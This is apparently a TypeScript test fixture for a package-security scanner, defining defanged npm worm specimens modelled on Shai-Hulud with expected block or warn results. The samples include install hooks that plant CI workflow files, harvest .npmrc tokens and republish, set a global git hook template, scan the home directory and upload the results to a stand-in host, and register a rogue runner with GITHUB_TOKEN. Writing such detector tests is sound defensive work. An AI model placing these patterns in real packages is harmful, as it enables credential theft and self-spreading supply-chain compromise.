import { hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'a package that spreads: publishing, workflows, repositories (Shai-Hulud, CanisterWorm); the commands are dry runs';

export const specimens: readonly Specimen[] = [
  {
    name: 'worm-workflow-file',
    from,
    files: {
      'package.json': hooked('node bundle.js'),
      'bundle.js': `const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');
const repo = process.env.INIT_CWD || process.cwd();
const folder = path.join(repo, '.github', 'workflows');
fs.mkdirSync(folder, { recursive: true });
fs.writeFileSync(path.join(folder, 'shai-INERT-workflow.yml'), 'on: push\\njobs:\\n  a:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo INERT\\n');
execSync('git add .github && git commit --dry-run -m "ci" && git push --dry-run', { cwd: repo });
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'writes file' },
  },
  {
    name: 'worm-publish-spawned',
    from,
    files: {
      'package.json': hooked('node deploy.js'),
      'deploy.js': `const { spawn } = require('child_process');
const { readFile, writeFile } = require('fs/promises');
const { homedir } = require('os');
const { join } = require('path');

async function tokens() {
  const text = await readFile(join(homedir(), '.npmrc'), 'utf8');
  return [...text.matchAll(/_authToken=(\\S+)/g)].map(match => match[1]);
}

async function spread(token) {
  const manifest = JSON.parse(await readFile('./package.json', 'utf8'));
  const [major, minor, patch] = manifest.version.split('.');
  manifest.version = [major, minor, Number(patch) + 1].join('.');
  await writeFile('./package.json', JSON.stringify(manifest, null, 2));
  spawn('npm', ['publish', '--dry-run', '--access', 'public'], { env: { ...process.env, NPM_TOKEN: token }, stdio: 'ignore' });
}

tokens().then(list => Promise.all(list.map(spread))).catch(() => {});
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'worm-git-template',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');
const hooks = path.join(os.homedir(), '.git-templates', 'hooks');
fs.mkdirSync(hooks, { recursive: true });
fs.writeFileSync(path.join(hooks, 'pre-push'), '#!/bin/sh\\necho INERT\\n', { mode: 0o755 });
execFileSync('git', ['config', '--global', 'init.templateDir', path.dirname(hooks)]);
exports.supportsColor = true;
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'writes file' },
  },
  {
    name: 'worm-secret-scanner',
    from,
    files: {
      'package.json': hooked('node index.js', {}, 'preinstall'),
      'index.js': `const { execSync } = require('child_process');
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
const bin = path.join(os.tmpdir(), 'trufflehog-INERT');
https.get('https://releases.invalid/trufflehog', res => {
  res.pipe(fs.createWriteStream(bin, { mode: 0o755 })).on('finish', () => {
    const found = execSync(bin + ' filesystem ' + home + ' --json', { maxBuffer: 1e9 });
    const req = https.request({ hostname: 'api.git.invalid', path: '/repos/x/contents/results.b64', method: 'PUT' });
    req.end(JSON.stringify({ content: Buffer.from(found).toString('base64') }));
  });
});
`,
    },
    expect: 'warn',
    happens: { at: 'install and import', does: 'spawns' },
  },
  {
    name: 'worm-runner',
    from,
    files: {
      'package.json': hooked('node environment.js', {}, 'preinstall'),
      'environment.js': `const cp = require('child_process');
const token = process.env.GITHUB_TOKEN;
async function register() {
  const answer = await fetch('https://api.git.invalid/repos/x/y/actions/runners/registration-token', { method: 'POST', headers: { Authorization: 'Bearer ' + token } });
  const { token: runner } = await answer.json();
  cp.execSync('mkdir -p $HOME/.dev-env && curl -o r.tar.gz -L https://git.invalid/runner.tar.gz && tar xzf r.tar.gz && ./config.sh --name INERT --token ' + runner);
  cp.spawn('bash', ['-c', 'cd $HOME/.dev-env && nohup ./run.sh &']).unref();
}
if (token) register();
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns' },
  },
];
